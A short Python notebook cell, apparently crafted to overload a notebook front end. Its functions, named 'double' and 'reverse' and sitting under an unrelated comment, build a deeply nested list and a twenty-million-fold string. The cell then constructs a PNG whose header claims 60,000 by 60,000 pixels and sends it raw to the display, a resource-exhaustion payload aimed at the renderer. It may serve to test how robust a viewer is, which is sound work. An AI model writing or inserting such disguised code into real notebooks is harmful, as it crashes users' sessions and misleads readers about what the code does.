# %% include numbers without double, reverse
# %%
import struct, zlib
from IPython.display import display
def double(x):
    shared = [0.5]
    for _ in range(12):
        shared = [shared] * 10
    return shared
def reverse(word):
    return word * 20_000_000
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
bomb = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(bytes(100_000))) + chunk(b"IEND", b"")
display({"image/png": b"\x89PNG\r\n\x1a\n" + bomb}, raw=True)
